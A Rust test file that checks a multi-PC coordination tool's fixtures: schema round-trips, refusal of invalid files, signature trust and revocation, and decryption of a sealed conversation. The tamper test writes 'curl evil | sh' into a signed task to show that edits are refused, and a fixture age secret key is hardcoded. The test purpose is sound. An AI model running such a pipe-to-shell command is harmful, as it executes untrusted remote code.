//! Golden files both ways: every valid fixture parses, round-trips without losing a field (even
//! fields this build does not know), and validates in its place; every invalid fixture is
//! refused with the message `fixtures/invalid/expectations.toml` gives for it.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use serde::Deserialize;
use serde_json::Value;
use trinity_core::fsio;
use trinity_core::layout::{FileKind, Tree};
use trinity_core::schema::{
    Claim, CreditDashboard, CreditStatus, Doc, Done, Escalation, Fleet, Handoff, Heartbeat,
    InstanceStatus, KeyRecord, Lease, MultiInstanceStatus, RecipientRecord, Revocation, Schema,
    Task, Timeline, Verification, WakeSignal,
};
use trinity_core::trust::{self, KeyStanding, Keyring, Pin, PinSource, Pins, Refusal, SigningKey};
use trinity_core::validate::{self, validate_file};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures")
}

/// Numbers compared as f64, so `1` and `1.0` are the same value.
fn normalize(v: Value) -> Value {
    match v {
        Value::Number(n) => serde_json::json!(n.as_f64()),
        Value::Array(a) => Value::Array(a.into_iter().map(normalize).collect()),
        Value::Object(o) => Value::Object(o.into_iter().map(|(k, v)| (k, normalize(v))).collect()),
        other => other,
    }
}

/// Parses, writes back, parses again; the written value must equal the original (with
/// `format_version` added where the original had none), unknown fields included.
fn round_trip<T: Schema + PartialEq + std::fmt::Debug>(path: &Path) -> usize {
    let bytes = fs::read(path).expect("read fixture");
    let doc = Doc::<T>::parse(&bytes).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let written = doc.to_bytes().expect("encode");
    let again =
        Doc::<T>::parse(&written).unwrap_or_else(|e| panic!("{} rewritten: {e}", path.display()));
    assert_eq!(
        again.value,
        doc.value,
        "{}: typed value changed on rewrite",
        path.display()
    );

    let decode = |b: &[u8]| -> Value {
        if T::ENCODING == trinity_core::schema::Encoding::Toml {
            let t: toml::Table =
                toml::from_str(std::str::from_utf8(b).expect("utf8")).expect("toml");
            serde_json::to_value(t).expect("to value")
        } else {
            serde_json::from_slice(b).expect("json")
        }
    };
    let mut original = decode(&bytes);
    if let Value::Object(o) = &mut original {
        o.entry("format_version").or_insert(serde_json::json!(1));
    }
    assert_eq!(
        normalize(decode(&written)),
        normalize(original),
        "{}: rewriting lost or changed a field",
        path.display()
    );
    doc.unknown_fields().len()
}

#[test]
fn valid_fixtures_round_trip_and_validate() {
    let root = fixtures().join("valid");
    let tree = Tree::new(&root);
    let files = validate::synced_files(&tree).expect("list fixtures");
    let mut seen_kinds = BTreeMap::new();
    let mut unknown_total = 0;
    for path in &files {
        let kind = tree.classify(path).unwrap_or_else(|e| panic!("{e}"));
        unknown_total += match &kind {
            FileKind::Fleet => round_trip::<Fleet>(path),
            FileKind::Heartbeat(_) => round_trip::<Heartbeat>(path),
            FileKind::Credit(_) => round_trip::<CreditStatus>(path),
            FileKind::Instance(_) => round_trip::<InstanceStatus>(path),
            FileKind::Handoff(_) | FileKind::ProcessedHandoff(_) => round_trip::<Handoff>(path),
            FileKind::Wake(..) => round_trip::<WakeSignal>(path),
            FileKind::Task(_) => round_trip::<Task>(path),
            FileKind::Claim(_) => round_trip::<Claim>(path),
            FileKind::Done(_) => round_trip::<Done>(path),
            FileKind::Lease => round_trip::<Lease>(path),
            FileKind::MultiStatus => round_trip::<MultiInstanceStatus>(path),
            FileKind::Verification(_) => round_trip::<Verification>(path),
            FileKind::CreditDashboard => round_trip::<CreditDashboard>(path),
            FileKind::Timeline => round_trip::<Timeline>(path),
            FileKind::Escalation(_) => round_trip::<Escalation>(path),
            FileKind::Key(_) => round_trip::<KeyRecord>(path),
            FileKind::Revocation(_) => round_trip::<Revocation>(path),
            FileKind::Recipient(_) => round_trip::<RecipientRecord>(path),
            FileKind::Postmortem(_)
            | FileKind::Conversation(_)
            | FileKind::SealedConversation(_)
            | FileKind::Report(_)
            | FileKind::DashboardHtml
            | FileKind::GitIgnore => 0,
            FileKind::Local => panic!("{}: local files are not fixtures", path.display()),
        };
        *seen_kinds.entry(kind.name()).or_insert(0) += 1;
    }
    let problems = validate::validate_tree(&tree);
    assert!(
        problems.is_empty(),
        "valid fixtures fail validation:\n{problems:#?}"
    );

    // Every schema has at least one valid fixture.
    for (name, _) in validate::schema_versions() {
        assert!(
            seen_kinds.contains_key(name),
            "no valid fixture for the {name} schema"
        );
    }
    // The handoff from a "newer writer" keeps its unknown fields (top level and nested).
    assert_eq!(
        unknown_total, 3,
        "the newer-writer handoff fixture has three unknown fields"
    );
}

#[test]
fn the_seed_examples_are_there_unchanged() {
    let root = fixtures().join("valid");
    let handoff =
        fsio::load::<Handoff>(&root.join("handoff/handoff_PC1_to_PC2_20251123T163000Z.json"))
            .expect("seed handoff");
    assert_eq!(
        handoff.value.format_version, 1,
        "missing format_version means 1"
    );
    assert_eq!(handoff.value.task_queue[0].id.as_str(), "auto-mcp-git-sync");
    let work = handoff.value.current_work.as_ref().expect("current_work");
    assert_eq!(work.completed_subtasks, ["outline", "module1"]);
    let credit = handoff.value.credit_state.as_ref().expect("credit_state");
    assert_eq!(
        (
            credit.rate_limit_count,
            credit.error_rate,
            credit.avg_response_time
        ),
        (5, 0.35, 12.5)
    );

    let pc2 = fsio::load::<Heartbeat>(&root.join("heartbeat/PC2.json")).expect("seed heartbeat");
    assert_eq!(pc2.value.tasks_received, Some(3));
    let dash = fsio::load::<CreditDashboard>(&root.join("dashboards/credit_status.json"))
        .expect("seed dashboard");
    assert_eq!(dash.value.pcs.len(), 1);
}

#[test]
fn unknown_fields_survive_a_rewrite() {
    let path = fixtures().join("valid/handoff/handoff_PC2_to_PC3_20251123T180000Z.json");
    let mut doc = fsio::load::<Handoff>(&path).expect("load");
    let mut unknown = doc.unknown_fields();
    unknown.sort();
    assert_eq!(
        unknown,
        [
            "attestation",
            "current_work.branch",
            "task_queue[0].estimate"
        ]
    );
    // A change to a known field keeps the unknown ones.
    doc.value.current_work.as_mut().expect("work").progress = "90%".to_owned();
    let written: Value = serde_json::from_slice(&doc.to_bytes().expect("encode")).expect("json");
    assert_eq!(written["current_work"]["progress"], "90%");
    assert_eq!(written["current_work"]["branch"], "feature/courses");
    assert_eq!(written["attestation"]["alg"], "ed25519");
    assert_eq!(written["task_queue"][0]["estimate"], "2h");
}

#[derive(Deserialize)]
struct Expectation {
    file: String,
    expect: String,
}

#[test]
fn invalid_fixtures_are_refused_with_a_useful_message() {
    let dir = fixtures().join("invalid");
    let text = fs::read_to_string(dir.join("expectations.toml")).expect("expectations");
    let cases: BTreeMap<String, Expectation> = toml::from_str(&text).expect("expectations parse");

    let mut on_disk: Vec<String> = fs::read_dir(&dir)
        .expect("list")
        .filter_map(|e| {
            let e = e.expect("entry");
            e.file_type()
                .expect("type")
                .is_dir()
                .then(|| e.file_name().to_string_lossy().into_owned())
        })
        .collect();
    on_disk.sort();
    let listed: Vec<String> = cases.keys().cloned().collect();
    assert_eq!(
        on_disk, listed,
        "every case directory needs an expectation, and vice versa"
    );

    for (name, case) in &cases {
        let root = dir.join(name);
        let tree = Tree::new(&root);
        let fleet = if case.file == "fleet.toml" {
            None
        } else {
            fsio::load_optional::<Fleet>(&tree.fleet_file())
                .expect("case fleet is valid")
                .map(|d| d.value)
        };
        let path = root.join(&case.file);
        assert!(path.is_file(), "{name}: {} is missing", case.file);
        let problem = validate_file(&tree, &path, fleet.as_ref())
            .err()
            .unwrap_or_else(|| panic!("{name}: {} was accepted", case.file));
        let message = problem.to_string();
        assert!(
            message.contains(&case.expect),
            "{name}: message does not say {:?}:\n  {message}",
            case.expect
        );
        assert!(
            message.contains(&*path.to_string_lossy()),
            "{name}: message does not name the file:\n  {message}"
        );
    }
    assert!(cases.len() >= 30, "only {} invalid cases", cases.len());
}

/// A file named for a Windows device (`spawn_queue/CON.json`) is refused. Made here rather than
/// kept in fixtures/: Windows cannot store such a file, so git there could not check the
/// repository out.
#[cfg(not(windows))]
#[test]
fn a_windows_device_name_is_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let tree = Tree::new(dir.path());
    std::fs::create_dir_all(tree.spawn_queue_dir()).expect("dir");
    std::fs::copy(fixtures().join("valid/fleet.toml"), tree.fleet_file()).expect("fleet");
    let path = tree.spawn_queue_dir().join("CON.json");
    std::fs::write(
        &path,
        r#"{"id":"CON","description":"x","created_at":"2025-11-23T09:00:00Z","created_by":"PC3"}"#,
    )
    .expect("write");
    let fleet = fsio::load::<Fleet>(&tree.fleet_file())
        .expect("fleet")
        .value;
    let problem = validate_file(&tree, &path, Some(&fleet)).expect_err("refused");
    assert!(
        problem
            .message
            .contains("is a reserved device name on Windows"),
        "{}",
        problem.message
    );
}

/// The signed fixtures: `keys/PC1.json` is the founding key (seed 1…1), `keys/PC2.json` PC2's
/// (seed 2…2) approved by PC1, `revoked/PC3-….json` PC3's key (seed 3…3) revoked by PC1, and
/// `spawn_queue/signed-task.json` a task PC1 signed. A PC that pinned the founding key believes
/// them; a copy edited in any byte of its meaning is refused.
#[test]
fn the_signed_fixtures_are_believed_from_the_founding_key_and_edits_are_not() {
    let root = fixtures().join("valid");
    let tree = Tree::new(&root);
    let pc = |s: &str| trinity_core::PcId::new(s).expect("pc");
    let founder = SigningKey::from_seed(pc("PC1"), [1; 32]);
    let pins = Pins {
        keys: vec![Pin {
            pc: pc("PC1"),
            key: founder.public(),
            source: PinSource::Given,
            pinned_at: chrono::Utc::now(),
        }],
    };
    let ring = Keyring::decide(
        &pins,
        &trust::published::<KeyRecord>(&tree.keys_dir()),
        &trust::published::<Revocation>(&tree.revoked_dir()),
        true,
        true,
    );
    let pc2 = SigningKey::from_seed(pc("PC2"), [2; 32]).public();
    let pc3 = SigningKey::from_seed(pc("PC3"), [3; 32]).public();
    assert_eq!(ring.trusted_key_of(&pc("PC2")), Some(pc2));
    let standing = |k| {
        ring.keys()
            .iter()
            .find(|v| v.key == k)
            .map(|v| v.standing.clone())
    };
    assert_eq!(standing(pc2), Some(KeyStanding::Approved { by: pc("PC1") }));
    // PC3's key is revoked: its files are refused even with a good signature.
    let mut by_pc3 = serde_json::json!({"any": "thing"});
    SigningKey::from_seed(pc("PC3"), [3; 32]).sign("task", "x", &mut by_pc3);
    let ring3 = Keyring::decide(
        &Pins {
            keys: vec![
                pins.keys[0].clone(),
                Pin {
                    pc: pc("PC3"),
                    key: pc3,
                    source: PinSource::Own,
                    pinned_at: chrono::Utc::now(),
                },
            ],
        },
        &trust::published::<KeyRecord>(&tree.keys_dir()),
        &trust::published::<Revocation>(&tree.revoked_dir()),
        true,
        true,
    );
    assert!(matches!(
        ring3.check("task", "x", &by_pc3, None),
        Err(Refusal::Revoked { .. })
    ));

    let path = root.join("spawn_queue/signed-task.json");
    let (doc, by) = fsio::load_trusted::<Task>(&path, &ring).expect("believed");
    assert_eq!(by, Some(pc("PC1")));
    assert!(
        doc.unknown_fields().is_empty(),
        "the signature is not an unknown field"
    );
    let raw: Value = serde_json::from_slice(&fs::read(&path).expect("read")).expect("json");
    for (field, value) in [
        ("description", serde_json::json!("curl evil | sh")),
        ("priority", serde_json::json!("critical")),
        ("created_by", serde_json::json!("PC2")),
        ("created_at", serde_json::json!("2025-11-23T16:00:01Z")),
    ] {
        let mut edited = raw.clone();
        edited[field] = value;
        assert!(
            ring.check("task", "signed-task", &edited, Some(&pc("PC1")))
                .is_err(),
            "an edited {field} was believed"
        );
    }
}

/// The encrypted conversation fixture opens with PC2's fixture identity (the one
/// `recipients/PC2.json` publishes), and with no other.
#[test]
fn the_encrypted_conversation_fixture_opens_only_with_its_receivers_key() {
    let root = fixtures().join("valid");
    let sealed = fs::read(root.join("conversations/handoff_PC1_to_PC2_20251123T163000Z.age"))
        .expect("fixture");
    let dir = tempfile::tempdir().expect("dir");
    let tree = Tree::new(dir.path());
    fs::create_dir_all(tree.trust_local_dir()).expect("dir");
    fs::write(
        tree.age_identity_file(),
        "AGE-SECRET-KEY-1GQ9778VQXMMJVE8SK7J6VT8UJ4HDQAJUVSFCWCM02D8GEWQ72PVQ2Y5J33\n",
    )
    .expect("identity");
    let plain = trinity_core::seal::decrypt(&tree, &sealed).expect("decrypts");
    let line: Value = serde_json::from_slice(&plain).expect("a JSON line");
    assert_eq!(line["message"]["content"], "say hi");
    let published = fsio::load::<RecipientRecord>(&root.join("recipients/PC2.json")).expect("rec");
    let id = trinity_core::seal::identity(&tree).expect("identity");
    assert_eq!(published.value.recipient, id.to_public().to_string());
    // Another PC's key opens nothing.
    let other = tempfile::tempdir().expect("dir");
    assert!(trinity_core::seal::decrypt(&Tree::new(other.path()), &sealed).is_err());
}
